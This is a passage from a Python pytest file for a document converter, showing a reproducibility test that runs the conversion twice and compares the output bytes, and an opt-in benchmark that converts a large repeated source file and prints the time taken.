            src = CORPUS / name if (CORPUS / name).exists() else extra / name
            shutil.copyfile(src, folder / name)
        shutil.copytree(CORPUS.parent / "bibliography", folder / "bibliography",
                        ignore=shutil.ignore_patterns("*.tmp"))
        proc = subprocess.run([sys.executable, "-m", "convert", "convert", "--sources", str(folder), "--docs-dir",
                               str(folder.parent / "docs"), "--no-cache"], cwd=ROOT, capture_output=True,
                              text=True, timeout=900, env={**os.environ, **env})
        assert proc.returncode == 0, proc.stderr[-3000:]
        runs.append(folder.parent)
    a, b = runs
    assert tree_bytes(a / "docs") == tree_bytes(b / "docs")
    assert tree_bytes(a / "sources" / "bibliography") == tree_bytes(b / "sources" / "bibliography")
    assert (a / "docs" / "articles.json").read_bytes() == (b / "docs" / "articles.json").read_bytes()


# == the 50 MB benchmark (opt-in) =====================================================================
@pytest.mark.skipif(not os.environ.get("EDITION_BIG_MB"), reason="benchmark: set EDITION_BIG_MB=50 to run it")
def test_big_source_benchmark(tmp_path):
    """EDITION_BIG_MB=50 pytest -s tests/test_hostile.py -k benchmark: one source of that many MB (the
    corpus issue, repeated) converted without cache; prints the time. No timing is asserted."""
    size = int(float(os.environ["EDITION_BIG_MB"]) * 1e6)
    folder = tmp_path / "src"
    folder.mkdir()
    issue = (CORPUS / ISSUE).read_bytes()
    with open(folder / "volume.txt", "wb") as fh:
        written = 0
        while written < size:
            fh.write(issue)
            written += len(issue)
    start = time.perf_counter()
    proc = subprocess.run([sys.executable, "-m", "convert", "convert", "--sources", str(folder), "--docs-dir",
                           str(tmp_path / "docs"), "--no-cache"], cwd=ROOT, capture_output=True, text=True,
                          timeout=24 * 3600)
    seconds = time.perf_counter() - start
    assert proc.returncode == 0, proc.stderr[-3000:]
    print(f"\n{written / 1e6:.1f} MB converted in {seconds:.1f} s ({written / 1e6 / seconds:.2f} MB/s)\n"
          + proc.stdout[-500:])


if __name__ == "__main__":
    make_hostile(Path(sys.argv[1]))
